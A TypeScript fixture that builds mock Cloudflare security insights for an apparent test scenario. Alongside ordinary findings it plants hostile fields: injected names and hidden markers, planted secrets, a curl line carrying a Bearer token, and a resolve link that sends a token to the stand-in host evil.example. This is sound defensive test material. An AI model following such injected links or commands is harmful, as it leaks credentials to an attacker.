import type { Json } from '../json';
import { CORP_INSIGHT } from './ids';
import { HOSTILE_NAMES, INSIGHT_CONTROL_STRING, PLANTED_INSIGHT_SECRETS } from './planted';
import { ZONE } from './places';

const ACCOUNT = 'https://dash.cloudflare.com/?to=/:account';

/** `since` in days before the story; absent: found by the scan that shows it first. */
const corp = (nn: string, type: string, issueClass: string, severity: string, subject: string, rest: Json): Json => ({
  id: `${CORP_INSIGHT}${nn}`,
  dismissed: false,
  issue_class: issueClass,
  issue_type: type,
  severity,
  subject,
  status: 'active',
  user_classification: null,
  resolve_text: 'See the documentation of this insight.',
  resolve_link: `${ACCOUNT}/security-center`,
  ...rest,
});

const http = (nn: string, host: string, rest: Json = {}): Json =>
  corp(nn, 'insecure_configuration', 'always_use_https_not_enabled', 'Moderate', host, {
    since: 30,
    resolve_text: 'Enable Always Use HTTPS.',
    payload: { zone_tag: ZONE.corp.id, host },
    ...rest,
  });

const user = (nn: string, email: string, rest: Json = {}): Json =>
  corp(nn, 'weak_authentication', 'users_without_mfa', 'Moderate', email, { since: 60, payload: {}, ...rest });

/** What stands when the story begins, beside the ordinary: all that something happens to, and what is printed badly. */
export const CORP_INSIGHTS: readonly Json[] = [
  corp('01', 'exposed_infrastructure', 'exposed_database', 'Critical', 'db.example.com', {
    since: 300,
    payload: { zone_id: ZONE.corp.id, host: 'db.example.com' },
  }),
  user('02', 'bob@example.com'),
  http('03', 'shop.example.com', { payload: { zone_tag: ZONE.corp.id } }),
  http('04', 'www.example.com'),
  http('05', 'cdn.example.com'),
  user('06', 'frank@example.com'),
  user('07', 'grace@example.com'),
  http('08', 'intranet.example.com', { dismissed: true }),
  http('09', 'jobs.example.com'),
  http('10', 'press.example.com'),
  http('11', 'events.example.com'),
  user('12', 'erin@example.com'),
  http('13', 'beta.example.com'),
  http('14', 'forum.example.com'),
  http('15', 'archive.example.com', { dismissed: true }),
  http('16', 'labs.example.com'),
  user('17', 'heidi@example.com'),
  http('18', 'blog.example.com'),
  http('19', 'feed.example.com', { resolve_text: HOSTILE_NAMES.markdown }),
  http('20', 'chart.example.com', { subject: HOSTILE_NAMES.links }),
  http('21', 'hidden.example.com', { subject: HOSTILE_NAMES.hidden, resolve_text: HOSTILE_NAMES.marker }),
  http('22', 'hook.example.com', {
    payload: { zone_tag: ZONE.corp.id, webhook: { api_key: PLANTED_INSIGHT_SECRETS.payloadKey } },
  }),
];

/** What later scans find for the first time. */
export const CORP_NEWCOMERS = {
  exposedServer: corp('31', 'exposed_infrastructure', 'exposed_rdp_server', 'Critical', INSIGHT_CONTROL_STRING, {
    resolve_text: 'Put the server behind Cloudflare Access, or close the port.',
    payload: { zone_tag: ZONE.corp.id, host: INSIGHT_CONTROL_STRING, port: 3_389 },
  }),
  missingSpf: corp('32', 'email_security', 'spf_record_missing', 'Low', 'example.org', {
    payload: { zone_tag: ZONE.corpDocs.id },
  }),
  unheardOf: corp('33', 'quantum_readiness', 'harvest_now_decrypt_later', 'Urgent', 'api.example.com', {
    payload: { zone_tag: ZONE.corp.id, confidence: 0.5 },
    risk_score: 9.25,
  }),
  hostile: corp('34', 'exposed_infrastructure', 'exposed_database', 'critical', HOSTILE_NAMES.links, {
    resolve_text: `${HOSTILE_NAMES.hidden}\n${HOSTILE_NAMES.marker}\ncurl -H "Authorization: Bearer ${PLANTED_INSIGHT_SECRETS.resolveTextBearer}"`,
    resolve_link: `https://evil.example/login?token=${PLANTED_INSIGHT_SECRETS.resolveLinkQuery}`,
    payload: { zone_tag: ZONE.corp.id, host: HOSTILE_NAMES.markdown },
  }),
  danglingName: corp('35', 'insecure_configuration', 'dangling_cname_record', 'High', 'old.example.com', {
    payload: { zone_tag: ZONE.corp.id, host: 'old.example.com' },
  }),
} as const;
